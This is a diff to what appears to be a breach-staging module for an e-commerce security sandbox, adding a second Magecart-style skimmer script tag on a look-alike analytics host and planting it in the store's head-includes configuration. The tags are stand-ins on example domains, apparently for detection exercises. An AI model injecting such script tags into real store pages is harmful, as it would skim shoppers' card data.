@@ -25,6 +25,7 @@ if TYPE_CHECKING:
 
 __all__ = [
     "CARD_TESTING_IP",
+    "HEAD_SKIMMER_SCRIPT",
     "SKIMMER_SCRIPT",
     "StagedBreach",
     "attacker_checks",
@@ -35,8 +36,10 @@ __all__ = [
     "stage_magecart",
 ]
 
-# A skimmer as seen in the wild: an external script dressed up as a library, on a look-alike host.
+# Skimmers as seen in the wild: external scripts dressed up as libraries, on look-alike hosts.
+# The block and the head include use different hosts, so each check looks for its own.
 SKIMMER_SCRIPT = '<script src="https://cdn-jquery-min.example.org/jquery-3.7.1.min.js"></script>'
+HEAD_SKIMMER_SCRIPT = '<script src="https://static-analytics.example.org/gtag.js"></script>'
 # Where the sandbox's generated card-testing burst comes from (docs/sandbox.md, "Data").
 CARD_TESTING_IP = "203.0.113.77"
 _SHOPPERS = 3
@@ -210,7 +213,7 @@ def _plant_head_include(sandbox: Sandbox, breach: StagedBreach) -> None:
     with sandbox.lock:
         state = sandbox.state
         current = state.config_value("design/head/includes") or ""
-        state.set_config("design/head/includes", current + SKIMMER_SCRIPT)
+        state.set_config("design/head/includes", current + HEAD_SKIMMER_SCRIPT)
     breach.items.append(
         StagedItem(
             "skimmer in design/head/includes",
